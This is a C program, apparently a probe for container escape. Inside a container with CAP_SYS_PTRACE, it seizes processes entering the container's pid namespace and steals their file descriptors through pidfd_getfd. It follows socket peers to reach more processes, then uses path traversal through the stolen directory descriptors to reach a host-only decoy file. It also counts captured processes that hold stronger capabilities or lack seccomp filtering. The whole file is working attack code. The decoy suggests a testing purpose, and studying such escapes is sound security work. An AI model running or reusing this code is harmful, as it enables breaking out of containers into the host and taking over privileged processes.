/* take.c - stops each process that appears in its pid namespace and takes what it holds. */
/* SPDX-License-Identifier: MIT */
/*
 * `take TIMES DECOY`, for a container with CAP_SYS_PTRACE. A process that appears and does not
 * run a program of the container is stopped by ptrace(2); then each of its descriptors is taken
 * by pidfd_getfd(2), and every socket among them is asked for the process that has made its
 * other end. What that process holds is taken as well. Each directory so got is tried as a way
 * to DECOY, a file that only the host has. After TIMES processes it prints:
 *
 *	took N peers N escaped N stronger N unfiltered N kinds KIND...
 *
 * peers: processes whose descriptors a socket gave. stronger: had a capability more than we have;
 * unfiltered: was not under a seccomp filter, and we are. KIND: what a descriptor from 3 on was.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define PIDFD_OPEN 434
#define PIDFD_GETFD 438
#define PEERPIDFD 77
#define PASSPIDFD 76

static const char *decoy;
static long peers, escaped, stronger, unfiltered;
static char kinds[512];

static void note(const char *kind)
{
	if (!strstr(kinds, kind) && strlen(kinds) + strlen(kind) + 2 < sizeof(kinds))
		strcat(strcat(kinds, " "), kind);
}

static void try_way(int fd)
{
	char path[900];

	snprintf(path, sizeof(path), "../../../../../../../../../../..%s", decoy);
	escaped += !faccessat(fd, path, F_OK, 0);
}

static void take_all(int pidfd, int deep);

/* Asks for the process that has made the other end. */
static void ask_peer(int sock)
{
	int peer = -1, one = 1;
	socklen_t len = sizeof(peer);

	setsockopt(sock, SOL_SOCKET, PASSPIDFD, &one, sizeof(one));
	if (!getsockopt(sock, SOL_SOCKET, PEERPIDFD, &peer, &len) && peer >= 0) {
		take_all(peer, 1);
		close(peer);
	}
}

/* A message that comes after SO_PASSPIDFD has a pidfd of its sender. */
static void ask_sender(int sock)
{
	char buf[64], control[256];
	struct iovec iov = { buf, sizeof(buf) };
	struct msghdr msg = { .msg_iov = &iov,
			      .msg_iovlen = 1,
			      .msg_control = control,
			      .msg_controllen = sizeof(control) };
	struct cmsghdr *cm;
	int fd;

	if (recvmsg(sock, &msg, MSG_DONTWAIT | MSG_PEEK) <= 0)
		return;
	for (cm = CMSG_FIRSTHDR(&msg); cm; cm = CMSG_NXTHDR(&msg, cm))
		if (cm->cmsg_level == SOL_SOCKET && cm->cmsg_type == 4 /* SCM_PIDFD */) {
			memcpy(&fd, CMSG_DATA(cm), sizeof(fd));
			take_all(fd, 1);
			close(fd);
		}
}

static void take_all(int pidfd, int deep)
{
	int got = 0, n;

	for (n = 0; n < 64; n++) {
		int fd = syscall(PIDFD_GETFD, pidfd, n, 0);
		struct stat st;

		if (fd < 0)
			continue;
		got++;
		if (!fstat(fd, &st) && S_ISDIR(st.st_mode))
			try_way(fd);
		if (!deep && n > 2)
			note(S_ISDIR(st.st_mode)    ? "directory"
			     : S_ISSOCK(st.st_mode) ? "socket"
			     : S_ISFIFO(st.st_mode) ? "pipe"
			     : S_ISREG(st.st_mode)  ? "file"
						    : "other");
		if (!deep && S_ISSOCK(st.st_mode)) {
			ask_peer(fd);
			ask_sender(fd);
		}
		close(fd);
	}
	peers += deep && got;
}

static uint64_t status_of(int pid, const char *key, int base)
{
	char file[64], text[4096], *at;
	ssize_t n;
	int fd;

	snprintf(file, sizeof(file), "/proc/%d/status", pid);
	fd = open(file, O_RDONLY | O_CLOEXEC);
	n = fd < 0 ? -1 : read(fd, text, sizeof(text) - 1);
	close(fd);
	text[n < 0 ? 0 : n] = 0;
	at = strstr(text, key);
	return at ? strtoull(at + strlen(key), NULL, base) : 0;
}

/* True if the process runs a program of the container already: then it is too late. */
static int is_payload(int pid)
{
	char file[64], to[300];
	ssize_t n;

	snprintf(file, sizeof(file), "/proc/%d/exe", pid);
	n = readlink(file, to, sizeof(to) - 1);
	to[n < 0 ? 0 : n] = 0;
	return n <= 0 || !strncmp(to, "/bin/", 5);
}

static int take(int pid)
{
	int pidfd, status, stopped, good = 0;

	if (is_payload(pid) || ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
		return 0;
	stopped = !ptrace(PTRACE_INTERRUPT, pid, 0, 0) && waitpid(pid, &status, __WALL) == pid &&
		  WIFSTOPPED(status);
	pidfd = syscall(PIDFD_OPEN, pid, 0);
	if (stopped && pidfd >= 0 && !is_payload(pid)) {
		uint64_t more = status_of(pid, "CapEff:", 16) & ~status_of(getpid(), "CapEff:", 16);

		good = 1;
		stronger += more != 0;
		unfiltered += status_of(pid, "Seccomp:", 10) < status_of(getpid(), "Seccomp:", 10);
		take_all(pidfd, 0);
	}
	close(pidfd);
	ptrace(PTRACE_DETACH, pid, 0, 0);
	return good;
}

int main(int argc, char **argv)
{
	long times = argc > 2 ? strtol(argv[1], NULL, 10) : 0, took = 0;
	static char known[1 << 22];
	struct dirent *e;
	DIR *d;

	if (argc < 3)
		return 2;
	decoy = argv[2];
	setvbuf(stdout, NULL, _IOLBF, 0);
	while (took < times && (d = opendir("/proc"))) {
		while ((e = readdir(d))) {
			int pid = atoi(e->d_name);

			if (pid <= 1 || pid >= (int)sizeof(known) || pid == getpid())
				continue;
			if (known[pid])
				continue;
			known[pid] = 1;
			took += take(pid);
		}
		closedir(d);
	}
	printf("took %ld peers %ld escaped %ld stronger %ld unfiltered %ld kinds%s\n", took, peers,
	       escaped, stronger, unfiltered, kinds);
	return 0;
}
